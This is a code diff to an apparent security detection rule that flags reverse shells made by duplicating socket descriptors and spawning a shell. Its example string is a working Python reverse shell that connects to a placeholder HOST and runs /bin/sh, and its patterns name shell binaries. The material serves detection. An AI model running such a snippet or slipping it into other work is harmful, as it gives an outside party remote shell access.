@@ -159,14 +159,11 @@ ROWS: tuple[Row, ...] = (
         code=Argument(0, "fd"),
         what=SHELL,
         always=True,
-        when=(
-            (Argument(0, "fd"), (r"~~\b_?(?:s|sock|conn|client|peer)\w*\.fileno\(\)$",)),
-            (Argument(1, "fd2"), (r"~~^(?:0|sys\.stdin\.fileno\(\)|[a-z]\w*)$",)),
-        ),
+        when=((Argument(0, "fd"), (r"~~\b_?(?:s|sock|conn|client|peer)\w*\.fileno\(\)$",)),),
         beside=("pty", "/bin/sh", "/bin/bash", "cmd.exe"),
         example=(
             "import os, pty, socket\nsock = socket.create_connection((HOST, 4443))\n"
-            'os.dup2(sock.fileno(), 0)\npty.spawn("/bin/sh")'
+            'for one in (0, 1, 2):\n    os.dup2(sock.fileno(), one)\npty.spawn("/bin/sh")'
         ),
     ),
     RunsCode(
